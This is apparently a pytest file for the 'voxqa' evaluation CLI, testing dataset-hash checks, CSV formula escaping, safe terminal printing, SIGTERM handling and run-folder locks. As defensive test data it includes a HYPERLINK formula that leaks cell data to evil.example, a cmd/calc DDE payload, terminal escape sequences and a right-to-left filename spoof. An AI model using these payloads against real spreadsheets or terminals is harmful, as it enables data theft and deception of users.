"""Runs and terminals under hostile or unlucky conditions: a run scored against a rebuilt
dataset, untrusted text printed to the terminal, SIGTERM during parallel work, two evals on
one run folder, and spreadsheet formulas in CSV cells."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from voxqa.cli import app

runner = CliRunner()


def _one_line_error(res, *needles: str) -> None:
    assert res.exit_code == 2, (res.exit_code, res.output)
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    flat = " ".join(res.output.split())
    assert flat.startswith("error:"), res.output
    for needle in needles:
        assert needle in flat, (needle, res.output)


def _build(src: Path, out: Path, seed: int) -> None:
    from voxqa.build import build_fastmri_plus
    from voxqa.render import RenderSettings, render_dataset

    build_fastmri_plus([(src / "annotations.csv", src / "file_list.csv")], out, volumes=src / "volumes",
                       seed=seed, fractions=(0.5, 0.25, 0.25))
    render_dataset(out, RenderSettings(size=64, context=4))


def test_a_run_is_not_scored_against_a_rebuilt_dataset(tmp_path) -> None:
    """Defect: score, compare and report read the dataset as it is now, never checking run.json's
    dataset hash: after a rebuild with another seed, the oracle's run scored 0.86 instead of 1.00
    (and compare showed the stale results.json)."""
    from voxqa.eval.run import dataset_hash
    from voxqa.phantom import write_phantom

    src = write_phantom(tmp_path / "src", n=8, seed=3)["volumes"].parent
    ds, run = tmp_path / "ds", tmp_path / "run"
    _build(src, ds, seed=0)
    res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all"])
    assert res.exit_code == 0, res.output
    assert "'accuracy': 1.0" in res.output
    asked = dataset_hash(ds)

    shutil.rmtree(ds)
    _build(src, ds, seed=1)  # the same folder, rebuilt with another split seed
    now = dataset_hash(ds)
    assert now != asked
    results = (run / "results.json").read_bytes()
    board, page = tmp_path / "board.md", tmp_path / "r.html"
    for args in (["score", str(run)], ["score", str(run), "--allow-incomplete"],
                 ["compare", str(run)], ["compare", str(run), "--out", str(board)],
                 ["report", str(run), "--out", str(page)]):
        _one_line_error(runner.invoke(app, args), f"error: {run}:", f"{ds} with items.jsonl sha256 {asked[:12]}",
                        f"{ds / 'items.jsonl'} now has sha256 {now[:12]}", "rebuilt or re-rendered")
    assert (run / "results.json").read_bytes() == results  # the old scores are not overwritten
    assert not board.exists() and not page.exists()


def test_compare_csv_cells_never_start_a_formula(tmp_path) -> None:
    """Defect: `compare --out board.csv` wrote a run named ``=HYPERLINK(...)`` (run.json's model
    spec) as a cell a spreadsheet runs as a formula."""
    import csv
    import json

    from helpers import rendered_phantom

    ds = rendered_phantom(tmp_path, n=6, seed=2, size=64, context=4)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
               "-2+3", "\tindent", "\r=1"]
    runs = []
    for n, spec in enumerate(hostile):
        run = tmp_path / f"run{n}"
        res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all",
                                  "--limit", "3"])
        assert res.exit_code == 0, res.output
        meta = json.loads((run / "run.json").read_text())
        meta["identity"]["model"]["spec"] = spec  # a run folder received from someone else
        (run / "run.json").write_text(json.dumps(meta))
        (run / "results.json").unlink()  # rescored with the crafted name
        runs.append(str(run))
    board = tmp_path / "board.csv"
    res = runner.invoke(app, ["compare", *runs, "--out", str(board)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(board.open(newline="")))
    names = [r[0] for r in rows[2:]]
    assert names == ["'" + h.replace("\r", " ") + " · minimal" for h in hostile], names  # one row each
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    assert rows[2][5].startswith("1.000 [")  # numbers and intervals as before


def test_spreadsheet_safe_keeps_plain_numbers() -> None:
    from voxqa.eval.compare import spreadsheet_safe

    for number in ("-0.25", "+3", "-1e-3", "0.5", "", "oracle · minimal", "1.000 [0.5, 1.0]"):
        assert spreadsheet_safe(number) == number
    for formula in ("=1+1", "-1+2", "+A1", "@SUM(A1)", "\t=1", "\r=1", "-", " =1", "\tindent"):
        assert spreadsheet_safe(formula) == "'" + formula


# ---------------------------------------------------------------- untrusted text on the terminal

ESC_TITLE = "\x1b]0;PWNED\x07\x1b[31m"  # OSC: retitle the window; CSI: recolour


def _no_control_sequences(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output, repr(output)
    assert "Traceback" not in output and "MarkupError" not in output, output


def test_inspect_shows_hostile_labels_literally(tmp_path) -> None:
    """Defect: `inspect` crashed on a label ``Effusion [/oops]`` (rich markup), dropped
    ``[grade 2]`` from another as a style, and wrote ESC/OSC sequences from labels raw."""
    from voxqa.build import build_fastmri_plus
    from voxqa.phantom import write_phantom

    src = write_phantom(tmp_path / "src", n=8, seed=3)
    csv = src["annotations"]
    text = csv.read_text()
    text = (text.replace("Joint Effusion ", "Effusion [/oops]").replace("Meniscus Tear", "Meniscus Tear [grade 2]")
            .replace("Periarticular cysts", f"Cyst {ESC_TITLE}red\u202e"))
    csv.write_text(text)
    build_fastmri_plus([(csv, src["file_list"])], tmp_path / "ds", volumes=src["volumes"], fractions=(0.5, 0.25, 0.25))
    res = runner.invoke(app, ["inspect", str(tmp_path / "ds")], env={"COLUMNS": "250"})
    assert res.exit_code == 0, res.output
    _no_control_sequences(res.output)
    for label in ("Effusion [/oops]", "Meniscus Tear [grade 2]", "Cyst \\x1b]0;PWNED\\x07\\x1b[31mred\\u202e"):
        assert f"│ {label} " in res.output, (label, res.output)


def test_check_reports_prints_hostile_sentences_literally(tmp_path) -> None:
    """Defect: `check-reports` crashed on a contradicted sentence containing ``[/bold]`` (a
    traceback with exit code 1, which means "contradictions found"), and wrote ESC/OSC
    sequences from report text raw."""
    import json

    from voxqa.phantom import write_segmentation_phantom

    s = write_segmentation_phantom(tmp_path / "src")
    studies = tmp_path / "studies.csv"
    studies.write_text("study_id,image,labels,label_names,patient_id,modality\n"
                       f"en,{s['image']},{s['labels']},{s['label_names']},p1,CT\n")
    reports = tmp_path / "reports.jsonl"
    text = f"The spleen is located on the right [/bold]. Status post splenectomy {ESC_TITLE}\u202egnp.exe."
    reports.write_text(json.dumps({"study_id": "en", "language": "en", "text": text}) + "\n")
    res = runner.invoke(app, ["check-reports", "--studies", str(studies), "--reports", str(reports)])
    assert res.exit_code == 1, res.output  # contradictions found, and nothing else
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    _no_control_sequences(res.output)
    flat = " ".join(res.output.split())
    assert '"The spleen is located on the right [/bold]."' in flat, flat
    assert '"Status post splenectomy \\x1b]0;PWNED\\x07\\x1b[31m\\u202egnp.exe."' in flat, flat
    assert "2 claims: 0 supported, 2 contradicted, 0 unverifiable" in flat


def test_server_text_in_an_error_reaches_the_terminal_literally(tmp_path) -> None:
    """Defect: the model list of a server (in the 'not served' error) reached the terminal with
    its escape sequences."""
    from helpers import rendered_phantom
    from openai_stub import StubServer

    ds = rendered_phantom(tmp_path, n=4, seed=2, size=48, context=2)
    served = f"evil{ESC_TITLE}[/bold][red]"
    with StubServer(lambda content: "yes", models=[served]) as srv:
        res = runner.invoke(app, ["eval", str(ds), "--model", "openai:m", "--base-url", srv.url, "--split", "all",
                                  "--out", str(tmp_path / "run")])
        assert not srv.requests
    _one_line_error(res, "is not served by", "evil\\x1b]0;PWNED\\x07\\x1b[31m[/bold][red]")
    _no_control_sequences(res.output)


def test_printable_and_markup_safe() -> None:
    from voxqa.views.terminal import markup_safe, printable

    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable("a\tb\nc\r", one_line=True) == "a\\tb\\nc\\r"
    assert printable("\x00\x1b\x7f\x9b\u2066ok") == "\\x00\\x1b\\x7f\\x9b\\u2066ok"
    assert printable("Grüße, 肝臓 ✓") == "Grüße, 肝臓 ✓"  # text is shown as written
    from rich.console import Console

    console = Console(record=True, width=200)
    hostile = "x [/bold] [grade 2] [@click=a] \\[b] c:\\"
    console.print(f"[red]{markup_safe(hostile)}[/]")  # inside a tag, as the commands print it
    assert console.export_text() == "x [/bold] [grade 2] [@click=a] \\[b] c:\\\n"


# ---------------------------------------------------------------- SIGTERM like Ctrl-C

SLOWED = textwrap.dedent("""
    import importlib, sys, time
    from voxqa.cli import app

    module, name, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    mod = importlib.import_module(module)
    real = getattr(mod, name)

    def slow(job):  # every job takes `seconds`, so the command runs long enough to be stopped
        time.sleep(seconds)
        return real(job)

    slow.__module__, slow.__qualname__ = module, name  # pickled by reference: the pool runs it
    setattr(mod, name, slow)
    sys.argv = ["voxqa"] + sys.argv[4:]
    app()
""")


def _children(pid: int) -> list[int]:
    """Process ids of ``pid``'s descendants (psutil, else a /proc scan by parent id)."""
    try:
        import psutil
    except ImportError:
        parents: dict[int, int] = {}
        for d in Path("/proc").iterdir():
            try:
                parents[int(d.name)] = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (ValueError, OSError, IndexError):
                continue
        found, todo = [], [pid]
        while todo:
            kids = [p for p, pp in parents.items() if pp == todo.pop()]
            found += kids
            todo += kids
        return found
    return [p.pid for p in psutil.Process(pid).children(recursive=True)]


def _running(pid: int) -> bool:
    """True while ``pid`` exists and is not a zombie."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def _slowed(tmp_path: Path, target: str, seconds: float, *args: str) -> subprocess.Popen:
    script = tmp_path / "slowed.py"
    script.write_text(SLOWED)
    module, name = target.rsplit(".", 1)
    return subprocess.Popen([sys.executable, str(script), module, name, str(seconds), *args],
                            stdout=subprocess.DEVNULL, stderr=(tmp_path / "stderr.txt").open("w"),
                            start_new_session=True, env={**os.environ, "COLUMNS": "250"})


def _wait_for(condition, what: str, proc: subprocess.Popen, seconds: float = 60) -> None:  # noqa: ANN001
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline or proc.poll() is not None:
            os.killpg(proc.pid, signal.SIGKILL)
            pytest.fail(f"{what} did not happen")
        time.sleep(0.05)


def _terminated(proc: subprocess.Popen, tmp_path: Path, group: bool) -> tuple[list[int], str]:
    """SIGTERM to the command (or its whole process group, as a supervisor sends it); it must
    end within 5 s with the interrupted exit code, and no child of it may outlive it."""
    from voxqa.cli.common import INTERRUPTED

    workers = _children(proc.pid)
    (os.killpg if group else os.kill)(proc.pid, signal.SIGTERM)
    try:
        proc.wait(timeout=5)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        pytest.fail("the command kept running after SIGTERM")
    err = (tmp_path / "stderr.txt").read_text()
    time.sleep(0.2)
    left = [p for p in workers if _running(p)]
    for p in left:
        os.kill(p, signal.SIGKILL)
    assert not left, f"workers left behind: {left}"
    assert proc.returncode == INTERRUPTED == 130, (proc.returncode, err)
    assert "Traceback" not in err and "interrupted" in err, err
    return workers, err


@pytest.mark.parametrize("group", [False, True], ids=["driver", "process-group"])
def test_sigterm_stops_a_parallel_render_and_its_workers(tmp_path, group) -> None:
    """Defect: SIGTERM to `render --workers 2` ended the driver at once and left both pool
    workers behind, blocked forever."""
    import orjson

    from voxqa.build import build_fastmri_plus
    from voxqa.phantom import write_phantom
    from voxqa.render import PROGRESS, RENDER

    p = write_phantom(tmp_path / "src", n=12, seed=4)
    ds = tmp_path / "ds"
    build_fastmri_plus([(p["annotations"], p["file_list"])], ds, volumes=p["volumes"], fractions=(0.5, 0.25, 0.25))
    args = ["render", str(ds), "--size", "64", "--frames", "4", "--workers", "2"]
    proc = _slowed(tmp_path, "voxqa.render.render_study", 1.5, *args)
    journal = ds / PROGRESS
    _wait_for(lambda: journal.is_file() and len(journal.read_bytes().splitlines()) >= 2, "a finished study", proc)
    workers, err = _terminated(proc, tmp_path, group)
    assert len(workers) == 2
    assert "run the same command again to resume" in err
    assert not (ds / RENDER).exists() and not list(ds.rglob("*.part"))
    done = len(journal.read_bytes().splitlines()) - 1
    assert 1 <= done < 12

    res = subprocess.run([sys.executable, "-m", "voxqa", *args], capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    counts = orjson.loads((ds / RENDER).read_bytes())["counts"]
    assert counts["studies_rendered"] == 12 and counts["frames_written"] < counts["frames"]  # resumed


def test_sigterm_stops_a_parallel_segmentation_build(tmp_path) -> None:
    """Defect: SIGTERM to `build segmentation --workers 2` left its pool workers behind."""
    from voxqa.phantom import write_segmentation_phantom

    s = write_segmentation_phantom(tmp_path / "seg")
    studies = tmp_path / "studies.csv"
    studies.write_text("study_id,image,labels,label_names,patient_id,modality\n" + "".join(
        f"s{i},{s['image']},{s['labels']},{s['label_names']},p{i},CT\n" for i in range(6)))
    out = tmp_path / "ds"
    proc = _slowed(tmp_path, "voxqa.sources.segmentation.load_segmentation_study", 5.0, "build", "segmentation",
                   "--studies", str(studies), "--out", str(out), "--workers", "2")
    _wait_for(lambda: len(_children(proc.pid)) >= 2, "two workers started", proc)
    time.sleep(0.5)
    _terminated(proc, tmp_path, group=False)
    assert not out.exists() and not list(tmp_path.glob(".ds.*"))  # a build is all or nothing


def test_sigterm_stops_an_eval_which_then_resumes(tmp_path) -> None:
    """SIGTERM during `eval` ends it like Ctrl-C: requests cancelled, the answers written kept
    (whole lines), exit code 130, and the same command resumes the rest, each item once."""
    import json

    from helpers import rendered_phantom
    from openai_stub import StubServer

    ds = rendered_phantom(tmp_path, n=6, seed=2, size=48, context=2)
    run = tmp_path / "run"
    (tmp_path / "stderr.txt").touch()
    with StubServer(lambda content: "yes", delay=0.2) as srv:
        args = ["eval", str(ds), "--model", "openai:m", "--base-url", srv.url, "--out", str(run), "--split", "all",
                "--concurrency", "4", "--limit", "40"]
        proc = subprocess.Popen([sys.executable, "-m", "voxqa", *args], stdout=subprocess.DEVNULL,
                                stderr=(tmp_path / "stderr.txt").open("w"), start_new_session=True)
        predictions = run / "predictions.jsonl"
        _wait_for(lambda: predictions.is_file() and predictions.read_bytes().count(b"\n") >= 8, "8 answers", proc)
        _, err = _terminated(proc, tmp_path, group=False)
        assert "answers already written are kept" in err, err
        kept = predictions.read_bytes()
        assert kept.endswith(b"\n") and 8 <= kept.count(b"\n") < 40
        srv.delay = 0.0
        res = subprocess.run([sys.executable, "-m", "voxqa", *args], capture_output=True, text=True)
        assert res.returncode == 0, res.stderr
    ids = [json.loads(line)["item_id"] for line in predictions.read_text().splitlines()]
    assert len(ids) == len(set(ids)) == 40


# ---------------------------------------------------------------- one eval per run folder


def test_a_second_eval_on_one_run_folder_is_refused(tmp_path) -> None:
    """Defect: two evals on one --out at once both ran (104 requests and records for 60 items).
    The second is refused naming the folder and the holder; a holder killed with -9 leaves
    its lock file, but not its lock, so the next eval resumes."""
    import json

    from helpers import rendered_phantom
    from openai_stub import StubServer

    ds = rendered_phantom(tmp_path, n=6, seed=2, size=48, context=2)
    run = tmp_path / "run"
    with StubServer(lambda content: "yes", delay=0.5) as srv:
        args = ["eval", str(ds), "--model", "openai:m", "--base-url", srv.url, "--out", str(run), "--split", "all",
                "--concurrency", "2", "--limit", "30"]
        first = subprocess.Popen([sys.executable, "-m", "voxqa", *args], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL, start_new_session=True)
        predictions = run / "predictions.jsonl"
        _wait_for(lambda: predictions.is_file() and predictions.read_bytes().count(b"\n") >= 2, "2 answers", first)
        asked = len(srv.requests)
        second = runner.invoke(app, args)
        _one_line_error(second, f"{run} is in use by another voxqa eval (pid {first.pid} on ",
                        "wait for it to end or use another --out")
        assert len(srv.requests) - asked <= 2  # only the first's requests in flight: none of the second's
        assert json.loads((run / "run.json").read_text())["identity"]["model"]["spec"] == "openai:m"

        os.killpg(first.pid, signal.SIGKILL)  # a crash: the lock file stays, the lock goes with the process
        first.wait()
        assert (run / "run.lock").is_file()
        srv.delay = 0.0
        res = runner.invoke(app, args)
        assert res.exit_code == 0, res.output
    ids = [json.loads(line)["item_id"] for line in predictions.read_text().splitlines()]
    assert len(ids) == len(set(ids)) == 30
    assert not (run / "run.lock").exists()  # removed when the eval ended

    other = tmp_path / "other"
    other.mkdir()
    (other / "run.lock").symlink_to(tmp_path / "elsewhere")
    res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(other), "--split", "all"])
    _one_line_error(res, f"{other / 'run.lock'}: cannot lock")
    assert not (tmp_path / "elsewhere").exists()
